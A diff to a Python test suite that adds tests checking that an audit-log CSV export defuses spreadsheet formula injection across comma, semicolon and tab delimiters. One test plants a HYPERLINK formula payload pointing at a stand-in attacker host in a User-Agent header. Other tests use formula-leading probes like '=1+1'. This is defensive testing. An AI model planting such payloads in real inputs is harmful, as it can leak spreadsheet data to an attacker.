@@ -5,9 +5,13 @@ import csv
 from io import StringIO
 from pathlib import Path
 
+from hypothesis import given, strategies
 import pytest
 
 from modules.audit import service
+from modules.audit.schemas import AuditEventRead, AuditPerson, Outcome
+from modules.audit.spreadsheet import csv_of
+from modules.shared import clock
 from modules.shared.ids import new_id
 from tests.support.api_keys import make_key
 from tests.support.house import House, house_in
@@ -25,6 +29,53 @@ async def house(database_urls: DatabaseUrls, tmp_path: Path) -> AsyncIterator[Ho
 
 def rows(text: str) -> list[dict[str, str]]:
     return list(csv.DictReader(StringIO(text)))
+
+
+def cells(text: str, delimiter: str) -> list[str]:
+    """What a table program that separates so has in its cells."""
+    return [cell for line in csv.reader(StringIO(text, newline=""), delimiter=delimiter) for cell in line]
+
+
+def begins_formula(cell: str) -> bool:
+    return cell.lstrip().startswith(("=", "+", "-", "@"))
+
+
+def event_with(text: str) -> AuditEventRead:
+    """Something that happened, with this wherever outsiders may write."""
+    return AuditEventRead(
+        id=new_id(),
+        mandate_id=new_id(),
+        occurred_at=clock.now(),
+        code="planted",
+        outcome=Outcome.REFUSED,
+        actor_id=None,
+        subject_type=text,
+        subject_id=text,
+        request_id=text,
+        count=1,
+        details={"reason": text, "list": [text, -1]},
+        person=AuditPerson(user_id=None, email=text, ip=text, device=text),
+    )
+
+
+class TestACell:
+    @given(text=strategies.text(alphabet="=+-@;,\t\r\n \"'ab", max_size=12))
+    def test_is_no_formula_however_the_file_is_cut(self, text: str) -> None:
+        file = csv_of([event_with(text)], header=False)
+        for delimiter in ",;\t":
+            assert not [cell for cell in cells(file, delimiter) if begins_formula(cell)]
+
+    @given(text=strategies.text(max_size=20))
+    def test_tells_what_happened_quotes_aside(self, text: str) -> None:
+        file = csv_of([event_with(text)], header=False)
+        (line,) = csv.reader(StringIO(file, newline=""))
+        assert line[5].replace("'", "") == text.replace("'", "")
+
+    @pytest.mark.parametrize("harmless", ["Mozilla/5.0 (X11; Linux x86_64)", "2026-01-01, a-b", "a=b", "x;y", ""])
+    def test_stays_as_it_is_otherwise(self, harmless: str) -> None:
+        file = csv_of([event_with(harmless)], header=False)
+        (line,) = csv.reader(StringIO(file, newline=""))
+        assert line[5] == harmless
 
 
 class TestTheFile:
@@ -60,6 +111,17 @@ class TestTheFile:
         answer = await house.call(house.administrator, "GET", "/audit.csv?code=planted")
         cells = [row["subject_id"] for row in rows(answer.text)]
         assert sorted(cells) == sorted(f"'{text}" for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"))
+
+    async def test_begins_none_where_something_else_separates_either(self, house: House) -> None:
+        program = 'Mozilla;=HYPERLINK("http://evil.test"&A1);x'
+        async with house.gateway.client(house.stranger, house.mandate, None, **{"User-Agent": program}) as client:
+            assert (await client.get("/api/v1/audit")).status_code == 403
+        await house.gateway.services.get(service.RefusalLog).flush()
+        answer = await house.call(house.administrator, "GET", "/audit.csv")
+        assert [row["device"] for row in rows(answer.text) if "evil" in row["device"]] == [
+            """Mozilla;'=HYPERLINK("http://evil.test"&A1);x"""
+        ]
+        assert not [cell for delimiter in ",;\t" for cell in cells(answer.text, delimiter) if begins_formula(cell)]
 
     async def test_is_refused_like_the_list(self, house: House) -> None:
         for path in ("/audit", "/audit.csv"):
